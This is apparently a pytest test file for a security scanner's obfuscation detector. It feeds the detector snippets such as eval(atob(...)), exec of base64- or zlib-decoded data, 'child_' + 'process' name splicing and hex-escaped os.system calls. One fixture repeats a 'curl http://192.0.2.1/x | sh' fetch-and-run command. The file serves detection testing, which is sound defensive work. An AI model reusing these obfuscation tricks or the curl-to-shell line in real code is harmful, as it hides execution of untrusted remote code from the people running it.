"""The obfuscation check reads only the calls the text names, and stops on floods of critical hits.

The text prefilter (`call_sites`) passes over a name that cannot end a callee or that is called
with one plain string; these cases check that nothing that can run decoded code is passed over.
"""

from __future__ import annotations

import pytest

from skillscan.analyzers.treesitter import TreeSitterAnalyzer
from skillscan.analyzers.treesitter.call_sites import CONSTANT_FIRST, NOT_CALLED, word_spans
from skillscan.hashing import sha256_hex
from skillscan.models import AnalysisResult, FileKind, Skill, SkillFile, SkillIdentity

_OBFUSCATION = {
    "obfuscated-exec",
    "exec-data-file",
    "hidden-dangerous-name",
    "eval-of-input",
    "escaped-code-string",
}


def analyze(path: str, text: str) -> AnalysisResult:
    kind = {"py": FileKind.PYTHON, "js": FileKind.JAVASCRIPT, "ts": FileKind.TYPESCRIPT}[
        path.rsplit(".", 1)[1]
    ]
    data = text.encode()
    f = SkillFile(path=path, kind=kind, data=data, sha256=sha256_hex(data), text=text)
    return TreeSitterAnalyzer().analyze(Skill(source="mem", identity=SkillIdentity(), files=(f,)))


def found(result: AnalysisResult) -> set[tuple[str, int | None]]:
    return {(f.rule_id, f.line) for f in result.findings if f.rule_id in _OBFUSCATION}


@pytest.mark.parametrize(
    ("path", "text", "rule", "line"),
    [
        # between the callee and its arguments: comments, line breaks, continuations, `?.`, types
        ("a.py", "import base64\nexec(  # run it\n  base64.b64decode(p))\n", "obfuscated-exec", 2),
        ("a.py", "import base64\ny = exec \\\n  (base64.b64decode(p))\n", "obfuscated-exec", 2),
        ("a.js", "eval /* c */ (atob(p));\n", "obfuscated-exec", 1),
        ("a.js", "x = eval\n(atob(p));\n", "obfuscated-exec", 1),
        ("a.js", "eval?.(atob(p));\n", "obfuscated-exec", 1),
        ("a.ts", "eval<string>(atob(p));\n", "obfuscated-exec", 1),
        ("a.js", "new Function(Buffer.from(x, 'base64').toString())();\n", "obfuscated-exec", 1),
        # optional chaining in a shell callee or a decoder reads as plain access
        (
            "a.js",
            "const cp = require('child_process');\ncp?.exec(Buffer.from(p, 'base64').toString());\n",
            "obfuscated-exec",
            2,
        ),
        (
            "a.js",
            "const child_process = require('child_process');\nchild_process?.execSync(atob(p));\n",
            "obfuscated-exec",
            2,
        ),
        ("a.js", "eval(Buffer?.from(p, 'hex').toString());\n", "obfuscated-exec", 1),
        # a string first argument that is not alone, or not plain, still leads somewhere
        ("a.py", "import base64\nexec('x = 1\\n' + base64.b64decode(p))\n", "obfuscated-exec", 2),
        ("a.py", "exec(f'{zlib.decompress(p)}')\n", "obfuscated-exec", 1),
        # variables, in either order, and data files read through them
        ("a.py", "exec(code)\nimport zlib\ncode = zlib.decompress(blob)\n", "obfuscated-exec", 1),
        ("a.py", "a = b\nb = base64.b64decode(p)\nexec(a)\n", "obfuscated-exec", 3),
        ("a.py", "fh = open('logo.png', 'rb')\nexec(fh.read())\n", "exec-data-file", 2),
        ("a.js", "const c = fs.readFileSync(__dirname + '/data.json');\neval(c);\n", "exec-data-file", 2),
        ("a.py", "s = x[: : -1]\nexec(s)\n", "obfuscated-exec", 2),
        # names built from parts: the literal is never whole
        ("a.js", "require('child_' + 'process').exec(cmd);\n", "hidden-dangerous-name", 1),
        ("a.py", "getattr(os, 'sys' + 'tem')(cmd)\n", "hidden-dangerous-name", 1),
        ("a.js", "require('\\x63hild_process');\n", "hidden-dangerous-name", 1),
        ("a.js", "const m = atob(p);\nrequire(m);\n", "hidden-dangerous-name", 2),  # a decoded bare name
        ("a.py", "n = codecs.decode('flfgrz', 'rot13')\ngetattr(os, n)(c)\n", "hidden-dangerous-name", 2),
        ("a.js", "require(x);\n" * 3000 + "require('child_' + 'process');\n", "hidden-dangerous-name", 3001),
        ("a.py", "def run(code):\n    eval(code)\n", "eval-of-input", 2),
        # non-ASCII text before: byte offsets, not characters
        ("a.py", "s = 'é' * 3\nd = base64.b64decode('ü')\nexec(d)\n", "obfuscated-exec", 3),
    ],
)
def test_prefilter_keeps_every_way_to_call(path: str, text: str, rule: str, line: int) -> None:
    assert (rule, line) in found(analyze(path, text))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.js", "fetch(u).then(r => r.text()).then(eval);\nconst s = atob(x);\n"),
        ("a.py", "exec('print(1)')\nimport base64\nd = base64.b64decode(p)\n"),
        ("a.js", "require('child_process').exec('ls');\n"),
        # optional chaining: still a shell call of a plain command, a decoder of plain text
        (
            "a.js",
            "const cp = require('child_process');\ncp?.exec('ls');\nconst d = Buffer?.from(p, 'utf8');\n",
        ),
        ("a.js", "const cp = require('child_process');\ncp?.exec(Buffer?.from(p, 'utf8').toString());\n"),
        ("a.py", "s = 'exec(b64decode(x))'\n# exec(b64decode(x))\nexec(\"d\")\nd = b64decode(y)\n"),
    ],
)
def test_quiet_where_nothing_decoded_runs(path: str, text: str) -> None:
    assert not found(analyze(path, text))


def test_a_real_hit_after_a_flood_of_harmless_ones_is_found() -> None:
    text = "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n" * 3000
    text += "eval(atob(payload));\n"
    assert found(analyze("a.js", text)) == {("obfuscated-exec", 3001)}


def test_flood_of_decoded_exec_stops_after_a_report_and_says_so() -> None:
    text = "import base64\n" + "exec(base64.b64decode('QUFB'))\n" * 500 + "getattr(os, 'sy' + 'stem')(c)\n"
    result = analyze("a.py", text)
    assert sorted(found(result)) == [("obfuscated-exec", n) for n in range(2, 22)]
    assert [e.detail for e in result.errors] == [
        "Obfuscation stopped after 20 findings of obfuscated-exec; the rest of the file was not analysed by it"
    ]


def test_a_full_report_with_nothing_after_it_is_not_a_shortfall() -> None:
    result = analyze("a.py", "import base64\n" + "exec(base64.b64decode('QUFB'))\n" * 20)
    assert len(found(result)) == 20 and not result.errors


def test_chained_calls_are_reported_in_document_order() -> None:
    # every call of a chain starts on its first line: the outer call, first in document order
    # though its name is read last, is the one reported
    text = "a" + ".eval(atob(x))" * 30 + ";\n"
    [hit] = [f for f in analyze("a.js", text).findings if f.rule_id == "obfuscated-exec"]
    assert hit.evidence.startswith("a.eval(atob(x)).eval(atob(x))")


def test_escaped_strings_are_found_among_many_strings() -> None:
    escaped = "'" + "".join(f"\\x{b:02x}" for b in b"import os; os.system(cmd)") + "'"
    text = "x = 'plain string number one'\n" * 2000 + f"exec({escaped})\n"
    assert ("escaped-code-string", 2001) in found(analyze("a.py", text))


def test_word_spans_are_bytes_and_keep_only_possible_calls() -> None:
    text = "é = exec('x'); exec(y); f(exec); exec.x; exec  (z)"
    spans = word_spans(text, ["exec"], NOT_CALLED + CONSTANT_FIRST)
    assert [(s, e) for s, e, _ in spans] == [(16, 20), (42, 46)]
    assert text.encode()[16:20] == b"exec"
